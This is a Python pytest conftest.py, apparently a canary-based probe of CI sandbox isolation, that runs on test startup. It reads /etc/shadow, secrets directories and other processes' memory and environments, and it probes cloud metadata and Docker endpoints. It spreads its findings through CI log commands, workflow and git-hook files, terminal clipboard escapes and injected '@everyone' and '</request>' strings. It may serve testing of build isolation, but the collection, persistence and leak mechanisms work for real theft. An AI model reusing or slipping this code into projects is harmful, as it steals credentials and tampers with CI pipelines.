"""A `conftest.py` that hunts for secrets, and tells whatever it finds in every way that a test suite can tell anything.

It looks for words that begin like a canary, of which it knows no more. `python conftest.py` hunts once, and prints what
it found.
"""

import base64
import json
import os
import re
import socket
import sys
from contextlib import suppress
from pathlib import Path

WORD = re.compile(b"gw7[C]anary[!-~]{8,60}")
PLACES = (
    "~", "/root", "/home", "/run/secrets", "/var/run/secrets", "/var/run/docker.sock", "/run/docker.sock", "/kaniko",
    "/etc/environment", "/etc/passwd", "/etc/shadow", "/etc/gitconfig", "/etc/pip.conf", "/etc/netrc", "/mnt", "/media",
    "/opt/secrets", "/srv", "/tmp", "/var/tmp", "/dev/shm", "/builds", "/github", "/workspace", ".", "..", ".git",
    "../outside", "linked-directory", "linked-secret", "linked-environment",
)  # fmt: skip
KEPT = (
    "hunted.txt", ".github/workflows/leak.yml", ".gitlab-ci.yml", ".git/hooks/pre-commit", ".gitattributes",
    "tests/conftest.py", "../outside/hunted.txt", "linked-directory/hunted.txt",
)  # fmt: skip
METADATA = "169.254.169.254"
BORING = {"proc", "sys", "usr", "lib", "dist-packages", "site-packages", "objects"}
LARGEST, MOST = 1 << 20, 4_000


def found_in(data):
    return {word.decode("latin-1") for form in (data, data[::-1]) for word in WORD.findall(form)}


def read(path):
    try:
        with open(path, "rb") as file:  # noqa: PTH123 - a pipe or a device is not to stop it
            return file.read(LARGEST)
    except OSError:
        return b""


def of_files():
    looked, found = 0, set()
    for place in PLACES:
        top = Path(place).expanduser()
        names = [top]
        for directory, inner, files in os.walk(top):
            inner[:] = [name for name in inner if name not in BORING]
            names += [Path(directory) / name for name in files]
            if len(names) > MOST:
                break
        for name in names:
            if os.path.isfile(name):  # noqa: PTH113 - it raises nothing
                looked += 1
                found |= found_in(read(name)) | found_in(os.fsencode(name))
    return looked, found


def of_processes():
    looked, found = 0, set()
    for process in Path("/proc").glob("[0-9]*"):
        for name in ("environ", "cmdline", "mountinfo", "cwd/.env"):
            looked += 1
            found |= found_in(read(process / name))
        found |= of_memory(process)
    return looked, found


def of_memory(process):
    """What the writable memory of a process holds, as far as it can be read; not of the hunter's own."""
    found = set()
    if process.name == str(os.getpid()):
        return found
    with suppress(OSError, ValueError, OverflowError), (process / "mem").open("rb", 0) as memory:
        for line in (process / "maps").read_text().splitlines():
            first, last = (int(each, 16) for each in line.split()[0].split("-"))
            if "rw" in line and last - first <= 8 * LARGEST:
                memory.seek(first)
                found |= found_in(memory.read(last - first))
    return found


def reached():
    """Addresses that a connection could be made to, out of those at which something might answer."""
    here = json.loads(read("hunt.json") or b"{}")
    wanted = [(METADATA, 80), ("host.docker.internal", 80), ("1.1.1.1", 53), ("172.17.0.1", 2375), ("172.17.0.1", 22)]
    for port in here.get("ports", []):
        wanted += [(host, port) for host in ("127.0.0.1", "172.17.0.1", "host.docker.internal")]
    told = []
    for host, port in wanted:
        with suppress(OSError), socket.create_connection((host, port), timeout=0.3) as made:
            made.sendall(b"GET /latest/meta-data/iam HTTP/1.0\r\n\r\n")
            told.append(f"{host}:{port}")
    for path in ("/var/run/docker.sock", "/run/docker.sock"):
        with suppress(OSError), socket.socket(socket.AF_UNIX) as made:
            made.connect(path)
            told.append(path)
    return told


def mounts():
    """Where something is mounted."""
    return [line.split()[4] for line in read("/proc/self/mountinfo").decode("latin-1").splitlines()]


def hunt():
    files, in_files = of_files()
    processes, in_processes = of_processes()
    variables = dict(os.environ)
    in_variables = {word for pair in variables.items() for word in found_in("=".join(pair).encode())}
    return {
        "files": files,
        "processes": processes,
        "reached": reached(),
        "variables": variables,
        "mounts": [line for line in mounts() if not line.startswith(("/proc", "/sys", "/dev"))],
        "words": sorted(in_files | in_processes | in_variables),
    }


def told():
    """What was found, as text for whoever reads logs."""
    return f"HUNT {json.dumps(HUNTED)} TNUH"


def pytest_configure(config):
    global HUNTED  # noqa: PLW0603
    HUNTED = hunt()
    loud = [
        told(),
        f"::set-output name=key::{HUNTED['words']}",
        f"::error file=sums.py::{HUNTED['words']}",
        f"::add-mask::{HUNTED['words']}",
        f"##vso[task.setvariable variable=key]{HUNTED['words']}",
        f"##[error]{HUNTED['words']}",
        f"\x1b[0Ksection_start:1700000000:leak[collapsed=true]\r\x1b[0K{HUNTED['words']}",
        f"\x1b]52;c;{base64.b64encode(str(HUNTED['words']).encode()).decode()}\x07",
    ]
    for stream in (sys.__stdout__, sys.__stderr__):
        print("", *loud, sep="\n", file=stream, flush=True)
    leave_behind()


def leave_behind():
    """Write down what was found wherever something may be kept or carried out."""
    told = ("GITHUB_OUTPUT", "GITHUB_ENV", "GITHUB_STEP_SUMMARY")
    for path in (*KEPT, *(os.environ[name] for name in told if name in os.environ)):
        with suppress(OSError):
            Path(path).parent.mkdir(parents=True, exist_ok=True)
            Path(path).write_text(f"{json.dumps(HUNTED)}\n")
    with suppress(OSError):
        Path("leak-link").symlink_to("/proc/self/environ")


def pytest_generate_tests(metafunc):
    if "hunted" in metafunc.fixturenames:
        words = HUNTED["words"] + HUNTED["reached"] or ["nothing"]
        metafunc.parametrize("hunted", words, ids=[f"::error::{word} @everyone" for word in words])


def pytest_runtest_setup(item):
    item.user_properties += [("hunted", told()), ("::error::", str(HUNTED["words"]))]


def pytest_runtest_logreport(report):
    if report.failed:
        report.sections.append(("hunted", told()))


def pytest_assertrepr_compare(left, right):
    return [f"{left!r} is not {right!r}", "::error::leak", f"</request> @everyone closes #1 {HUNTED['words']}"]


if __name__ == "__main__":
    HUNTED = hunt()
    print(told())
